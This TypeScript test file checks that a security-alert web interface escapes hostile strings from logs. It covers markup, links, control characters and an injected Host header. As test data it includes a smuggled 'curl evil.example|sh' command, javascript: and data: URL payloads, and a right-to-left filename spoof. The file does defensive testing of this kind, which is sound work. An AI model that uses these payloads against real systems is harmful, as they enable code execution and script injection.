import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert, AlertEvent } from '../alert/alert.ts';
import { send } from './testing/request.ts';
import { hostileStrings, testAlert, testId, testNow } from './testing/sample.ts';
import { startServer, type TestServer } from './testing/server.ts';

/** An alert in which every string that can come from a log or a rule is the hostile one. */
function hostileAlert(number: number, text: string): Alert {
  const base = testAlert(number);
  return {
    ...base,
    rule: { id: text, title: text },
    title: text,
    description: text,
    response: text,
    who: { kind: 'iam-user', name: text, arn: text, account: text, accessKeyId: text, chain: [text, text] },
    what: {
      kind: 'cloudtrail.api-call',
      service: text,
      action: text,
      result: 'failure',
      reason: text,
      targets: [{ type: text, name: text, arn: `${text}.`, account: text }],
    },
    where: { account: text, region: text, origin: { type: 'unknown', text }, userAgent: text },
    tactics: [{ id: text, name: text }],
    techniques: [{ id: text, name: text }],
    facts: [{ explanation: text, unknowns: [text] }],
    falsePositives: [text],
    references: [text],
    context: {
      warnings: [{ type: 'agent', value: text, feed: text, label: text }],
      lookups: [
        {
          provider: text,
          about: { type: 'domain', value: text },
          verdict: 'malicious',
          summary: text,
          link: text,
          at: base.time,
        },
      ],
    },
    ...(number % 2 === 0 ? {} : { correlation: correlationOf(base, text) }),
    evidence: {
      eventId: text,
      provenance: { ...base.evidence.provenance, object: text },
      fields: { [text]: text, constructor: text },
    },
  };
}

/** As many events as are shown at once, and more. */
function correlationOf({ time, evidence }: Alert, text: string): Alert['correlation'] {
  const event: AlertEvent = {
    id: text,
    time,
    kind: 'cloudtrail.api-call',
    service: text,
    action: text,
    result: 'failure',
    reason: text,
    target: text,
    who: { kind: 'iam-user', name: text, arn: text, account: text, accessKeyId: text },
    account: text,
    region: text,
    origin: { type: 'unknown', text },
    userAgent: text,
    provenance: { ...evidence.provenance, object: text },
  };
  return {
    type: text,
    summary: text,
    group: [{ field: text, value: text }],
    value: 1,
    start: time - 1_000,
    end: time,
    total: 20,
    events: Array.from({ length: 12 }, () => event),
  };
}

let server: TestServer;

beforeAll(async () => {
  server = await startServer();
  for (const [i, text] of hostileStrings.entries()) {
    await server.store.commit({
      alerts: [{ alert: hostileAlert(i + 1, text), channels: [text] }],
      now: testNow,
    });
  }
});

afterAll(() => server.close());

/** The elements and attributes of our own templates; anything else in a page came in from outside. */
const ownElements =
  /^(?:html|head|meta|title|link|script|body|a|header|div|img|nav|button|kbd|main|h1|h2|h3|svg|rect|ul|ol|li|span|b|section|dl|dt|dd|time|article|p|pre|details|summary|code|small|footer|dialog|form|label|input|textarea|select|option)$/;
const ownAttributes =
  /^(?:lang|charset|name|content|rel|type|href|src|defer|class|id|width|height|alt|aria-[a-z]+|data-[a-z-]+|disabled|hidden|tabindex|viewBox|preserveAspectRatio|x|y|role|title|datetime|method|action|value|maxlength|autocomplete|rows)$/;

function foreignMarkup(page: string): readonly string[] {
  const found: string[] = [];
  const withoutTags = page
    .replace(/<!doctype html>/, '')
    .replace(
      /<\/?([a-z0-9]+)((?:\s+[a-zA-Z-]+(?:="[^"<>]*")?)*)\s*\/?>/g,
      (_tag, name: string, attributes: string) => {
        if (!ownElements.test(name)) found.push(name);
        for (const [, attribute = ''] of attributes.matchAll(/\s([a-zA-Z-]+)(?:="[^"]*")?/g)) {
          if (!ownAttributes.test(attribute)) found.push(attribute);
        }
        return '';
      },
    );
  // Whatever is left is text: an angle bracket in it would be the start of markup that is none of ours.
  found.push(...(withoutTags.match(/[<>][^<>]{0,20}/g) ?? []));
  return found;
}

const unseen = /(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

describe('pages of hostile alerts', () => {
  it('finds markup that is none of its own', () => {
    expect(foreignMarkup('<p>a</p><iframe src="x">')).toEqual(['iframe']);
    expect(foreignMarkup('<p onclick="x">a</p>')).toEqual(['onclick']);
    expect(foreignMarkup('<p>a < b</p>')).not.toEqual([]);
  });

  it('hold none of their markup in the list', async () => {
    const { status, body } = await send(server, '/');
    expect([status, foreignMarkup(body), unseen.test(body)]).toEqual([200, [], false]);
  });

  it.each(hostileStrings.map((text, i) => [i + 1, text.slice(0, 40)] as const))(
    'hold none of their markup in the page of alert %d, made of %j',
    async (number) => {
      const { status, body } = await send(server, `/alerts/${testId(number)}`);
      expect([status, foreignMarkup(body), unseen.test(body)]).toEqual([200, [], false]);
    },
  );

  it('link to nothing but ourselves, MITRE, and plain https', async () => {
    for (const [i] of hostileStrings.entries()) {
      const { body } = await send(server, `/alerts/${testId(i + 1)}`);
      for (const [, target = ''] of body.matchAll(/href="([^"]*)"/g))
        expect(target).toMatch(/^(?:\/(?!\/)|#main$|https:\/\/attack\.mitre\.org\/)/);
    }
  });

  it('link a reference only where it is plain https', async () => {
    const references = [
      'https://docs.aws.amazon.com/x?a=1&b=2',
      'http://plain.example/',
      'HTTPS://UPPER.example/',
      'javascript:alert(1)',
      'data:text/html,x',
      '//evil.example',
      'https://user@evil.example/',
      'https:evil',
      ' https://space.example',
    ];
    const alert = testAlert(900, { references });
    await server.store.commit({ alerts: [{ alert, channels: [] }], now: testNow });
    const { body } = await send(server, `/alerts/${alert.id}`);
    const targets = [...body.matchAll(/href="([^"/#][^"]*)"/g)].map(([, target]) => target);
    expect(targets.filter((target) => !target?.startsWith('https://attack.mitre.org/'))).toEqual([
      'https://docs.aws.amazon.com/x?a=1&amp;b=2',
      'https://upper.example/',
      'https://evil/',
      'https://space.example/',
    ]);
  });

  it('turn no line around: what would do so is shown', async () => {
    const { body } = await send(
      server,
      `/alerts/${testId(hostileStrings.indexOf('invoice\u202Egnp.exe') + 1)}`,
    );
    expect(body).toContain('invoice\\u202egnp.exe');
  });

  it('go through the API unchanged, as JSON', async () => {
    for (const [i, text] of hostileStrings.entries()) {
      const answer = await send(server, `/v1/alerts/${testId(i + 1)}`);
      expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(JSON.parse(answer.body)).toMatchObject({
        alert: { title: text, evidence: { fields: { constructor: text } } },
      });
    }
  });

  it('keep filters of any content within their links', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ unit: 'binary', minLength: 1, maxLength: 50 }),
          fc.constantFrom(...hostileStrings.filter((text) => text.length < 200)),
        ),
        async (text) => {
          const query = `?account=${encodeURIComponent(text.toWellFormed())}`;
          for (const path of ['/', `/alerts/${testId(1)}`]) {
            const { status, body } = await send(server, `${path}${query}`);
            expect([status, foreignMarkup(body), unseen.test(body)]).toEqual([200, [], false]);
          }
        },
      ),
      { numRuns: 60 },
    );
  });

  it('do not repeat a strange host', async () => {
    const keyed = await startServer({ keys: [{ name: 'a', key: 'a-key', scope: 'all' }] });
    const headers = { 'x-api-key': 'a-key', host: 'x";curl evil.example|sh;"' };
    const { body } = await send(keyed, '/', { headers });
    expect(body).not.toContain('evil.example');
    expect(body).toContain('curl http://localhost/v1/events');
    await keyed.close();
  });
});
